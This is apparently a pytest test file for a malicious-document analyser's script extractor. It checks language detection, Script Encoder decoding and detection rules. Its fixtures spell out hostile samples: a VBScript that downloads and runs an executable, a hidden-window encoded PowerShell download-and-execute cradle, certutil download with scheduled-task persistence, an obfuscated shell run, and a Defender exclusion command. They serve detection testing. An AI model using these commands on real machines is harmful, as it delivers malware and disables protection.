"""Script extractor: detection per language, Script Encoder decoding, download/execute and obfuscation."""

from __future__ import annotations

import base64

import pytest

from maldoc.engine import analyze
from maldoc.extractors import _mail_sniff as sniff
from maldoc.extractors._script_decode import decode, encode
from maldoc.filetype import detect
from maldoc.types import FileType

DOWNLOADER = ('Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "https://dl.example.test/a.exe", False\r\n'
              'x.Send\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Open\r\ns.Write x.responseBody\r\n'
              's.SaveToFile "C:\\Users\\Public\\a.exe", 2\r\nCreateObject("WScript.Shell").Run "a.exe", 0\r\n')


def rules(node) -> set[str]:
    return {f.rule_id for f in node.result.findings}


@pytest.mark.parametrize(("body", "kind"), [
    (DOWNLOADER, "vbs"),
    ('var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc");\r\n', "js"),
    ("$x = 1\r\nInvoke-WebRequest -Uri https://a.example.test/ -OutFile a\r\n", "ps1"),
    ("@echo off\r\necho hello\r\n", "bat"),
    ('<?xml version="1.0"?>\r\n<job id="a"><script language="VBScript">WScript.Echo 1</script></job>', "wsf"),
])
def test_each_language_is_its_own_type_with_the_sniffer_label(body, kind):
    data = body.encode()
    assert detect(data) is FileType(f"script_{kind}")
    assert sniff.kind(data) == kind  # mail and OneNote extractors compare these labels


def test_html_and_hta_stay_html():
    for page in (b"<html><body><style>\n::selection { color: red }\n</style></body></html>",
                 b'<html><hta:application id="a"/><script>new ActiveXObject("WScript.Shell")</script></html>',
                 b"<!DOCTYPE html><html><script>var a = 1;</script></html>"):
        assert detect(page) is FileType.HTML


def test_plain_text_is_not_a_script():
    assert detect(b"Dear customer,\nplease find the invoice attached.\nRegards\n") is FileType.UNKNOWN


def test_script_encoder_round_trip_and_blocks():
    plain = DOWNLOADER + "\tx = \"<a> @ b\"\r\n"
    text, blocks = decode("' head\r\n" + encode(plain) + "\r\n' tail")
    assert blocks == 1 and text == "' head\r\n" + plain + "\r\n' tail"


def test_vbe_is_decoded_and_analysed():
    data = encode(DOWNLOADER).encode()
    assert detect(data) is FileType("script_vbs")
    node = analyze(data, "invoice.vbe")
    assert {"SCRIPT_ENCODED_SCRIPT", "SCRIPT_DOWNLOAD_EXECUTE", "SCRIPT_SHELL_EXEC"} <= rules(node)
    assert node.result.features["script.encoded"] == 1
    assert "https://dl.example.test/a.exe" in node.result.urls


def test_powershell_encoded_command_is_decoded():
    blob = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('https://p.example.test/s')"
                            .encode("utf-16-le")).decode()
    node = analyze(f"$a = 1\r\npowershell -nop -w hidden -enc {blob}\r\n".encode(), "a.ps1")
    assert {"SCRIPT_ENCODED_COMMAND", "SCRIPT_DOWNLOAD_EXECUTE"} <= rules(node)
    assert node.result.features["script.hidden_window"] == 1


def test_batch_lolbin_and_persistence():
    node = analyze(b"@echo off\r\ncertutil -urlcache -split -f https://x.example.test/a.exe %TEMP%\\a.exe\r\n"
                   b"schtasks /create /tn u /tr %TEMP%\\a.exe /sc onlogon\r\n", "a.cmd")
    assert {"SCRIPT_LOLBIN", "SCRIPT_DOWNLOAD_EXECUTE", "SCRIPT_PERSISTENCE"} <= rules(node)


def test_fromcharcode_chain_is_obfuscation():
    chars = "+".join(f"String.fromCharCode({ord(c)})" for c in "cmd /c start https://a.example.test/x")
    node = analyze(f'var c = {chars};\r\nnew ActiveXObject("WScript.Shell").Run(c, 0);\r\n'.encode(), "a.js")
    assert {"SCRIPT_OBFUSCATED", "SCRIPT_SHELL_EXEC"} <= rules(node)
    assert node.result.features["script.chr_calls"] >= 20


def test_defender_tamper():
    node = analyze(b"$p = 'C:\\'\r\nAdd-MpPreference -ExclusionPath $p\r\n", "a.ps1")
    assert "SCRIPT_DEFENDER_TAMPER" in rules(node)


def test_admin_scripts_are_quiet():
    for data, name in ((b'Option Explicit\r\nDim net\r\nSet net = CreateObject("WScript.Network")\r\n'
                        b'WScript.Echo net.UserName\r\n', "logon.vbs"),
                       (b"$d = Get-PSDrive -PSProvider FileSystem\r\n$d | Export-Csv d.csv\r\n", "report.ps1"),
                       (b"@echo off\r\nrobocopy C:\\Data D:\\Backup /MIR\r\necho done\r\n", "backup.bat")):
        node = analyze(data, name)
        assert node.file_type.value.startswith("script_") and not rules(node), name
        assert node.result.features["script.char_entropy"] > 0


def test_c_code_with_goto_is_not_a_batch_file():
    patch = b"--- a/x.c\n+++ b/x.c\n@@ -1,3 +1,4 @@\n if (err) {\n \tgoto out;\n }\n+\tgoto done;\n"
    assert detect(patch) is FileType.UNKNOWN
